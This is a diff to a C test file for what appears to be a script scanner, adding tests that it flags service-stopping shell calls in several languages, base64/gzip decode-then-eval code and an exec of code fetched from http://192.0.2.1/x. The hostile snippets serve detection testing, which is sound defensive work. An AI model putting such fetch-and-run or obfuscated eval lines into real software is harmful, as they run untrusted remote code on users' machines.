@@ -266,6 +266,65 @@ TEST(hostile_text_takes_linear_time)
             strbuf_adds(&b, UNITS[i]);
         clock_t before = clock();
         look(b.p);
-        CHECK(clock() - before < 2 * CLOCKS_PER_SEC); /* measured: 20 ms at most; quadratic time would be minutes */
+        CHECK(clock() - before <
+              2 * CLOCKS_PER_SEC); /* measured: 20 ms at most; quadratic time would be minutes */
+    }
+}
+
+TEST(commands_of_other_languages)
+{
+    static const char *const CASES[][3] = {
+        {"/x.py", "import os\nos.system(\"systemctl stop davytest\")\n", "(davytest)"},
+        {"/x.py", "subprocess.run(['systemctl', 'stop', 'davytest'])\n", "(davytest)"},
+        {"/x.py", "subprocess.check_call(\n    [\"systemctl\",\n     \"stop\", \"davytest\"])\n",
+         "(davytest)"},
+        {"/x.py", "os.system('cd /\\nsystemctl stop davytest')\n", "(davytest)"},
+        {"/x.pl", "system(\"systemctl stop davytest\");\n", "(davytest)"},
+        {"/x.php", "<?php shell_exec('systemctl stop davytest');", "(davytest)"},
+        {"/x.rb", "system \"systemctl stop davytest\"\n", "(davytest)"},
+        {"/x.js", "execSync(`systemctl stop davytest`)\n", "(davytest)"},
+        {"/x.lua", "os.execute('systemctl stop davytest')\n", "(davytest)"},
+        {"/x.py", "print('systemctl stop davytest')\n", "<NA>"},
+        {"/x.py", "subprocess.run(command)\nprint('systemctl stop davytest')\n", "<NA>"},
+        {"/x.js", "/a/.exec('systemctl stop davytest')\n", "<NA>"},
+        {"/x.py", "exec('systemctl stop davytest')\n", "<NA>"},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
+        look_at(CASES[i][0], CASES[i][1]);
+        CHECK_CSTR(list(F_SCRIPT_STOPS), CASES[i][2]);
+    }
+}
+
+TEST(code_that_is_decoded_or_fetched)
+{
+    look_at("/x.py", "exec(base64.b64decode(data))\n");
+    CHECK(flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.php", "<?php eval(gzinflate(base64_decode($x)));");
+    CHECK(flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.js", "eval(Buffer.from(x, 'base64').toString())\n");
+    CHECK(flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.py", "data = base64.b64decode(text)\nliteral_eval(data)\n");
+    CHECK(!flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.py", "exec(code)\nicon = base64.b64decode(text)\n");
+    CHECK(!flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.py", "exec(urllib.request.urlopen('http://192.0.2.1/x').read())\n");
+    CHECK(flag(F_SCRIPT_DOWNLOAD_RUN));
+    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/x)");
+    look_at("/x.py", "page = urlopen('http://192.0.2.1/x').read()\n");
+    CHECK(!flag(F_SCRIPT_DOWNLOAD_RUN));
+}
+
+TEST(calls_within_calls_take_linear_time)
+{
+    static const char *const UNITS[] = {"os.system(",  "os.system(\"", "eval(",
+                                        "subprocess.", "popen '",      "os.system('$a')"};
+    _cleanup_(strbuf_done) struct strbuf b = {};
+    for (size_t i = 0; i < ARRAY_SIZE(UNITS); i++) {
+        strbuf_clear(&b);
+        while (b.n < 1000000)
+            strbuf_adds(&b, UNITS[i]);
+        clock_t before = clock();
+        look_at("/x.py", b.p);
+        CHECK(clock() - before < 2 * CLOCKS_PER_SEC);
     }
 }
